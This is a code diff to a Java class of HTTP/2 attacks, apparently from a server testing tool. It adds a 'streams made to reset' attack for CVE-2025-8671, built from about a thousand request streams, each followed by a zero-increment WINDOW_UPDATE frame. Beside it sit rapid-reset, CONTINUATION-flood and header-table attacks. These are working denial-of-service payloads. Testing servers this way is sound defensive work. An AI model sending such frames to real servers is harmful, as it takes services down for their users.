@@ -41,6 +41,8 @@ final class FrameAttacks {
     static List<Attack> all() {
         return List.of(
                 new Attack("streams reset", "HTTP/2 streams are opened and reset at once (CVE-2023-44487)", stage -> play(stage, resets(), NOTHING)),
+                new Attack("streams made to reset", "HTTP/2 requests are followed by a frame for which the server resets their streams (CVE-2025-8671)",
+                        stage -> play(stage, madeToReset(), NOTHING)).on(Node.TLS),
                 new Attack("continuations", "HTTP/2 heads go on without an end (CVE-2024-27316)",
                         stage -> play(stage, frame(HEADERS, END_STREAM, 1, GET), often(frame(CONTINUATION, 0, 1, NOTHING)))).on(Node.TLS),
                 new Attack("header tables", "HTTP/2 heads of a few KB name a long header thousands of times (CVE-2016-6581)",
@@ -178,6 +180,16 @@ final class FrameAttacks {
         for (int stream = 1; stream < 2000; stream += 2) {
             bytes.writeBytes(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET));
             bytes.writeBytes(frame(RST_STREAM, 0, stream, number(CANCEL)));
+        }
+        return bytes.toByteArray();
+    }
+
+    /** A window that grows by nothing is an error of its stream (RFC 9113, section 6.9). */
+    private static byte[] madeToReset() {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        for (int stream = 1; stream < 2000; stream += 2) {
+            bytes.writeBytes(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET));
+            bytes.writeBytes(frame(WINDOW_UPDATE, 0, stream, number(0)));
         }
         return bytes.toByteArray();
     }
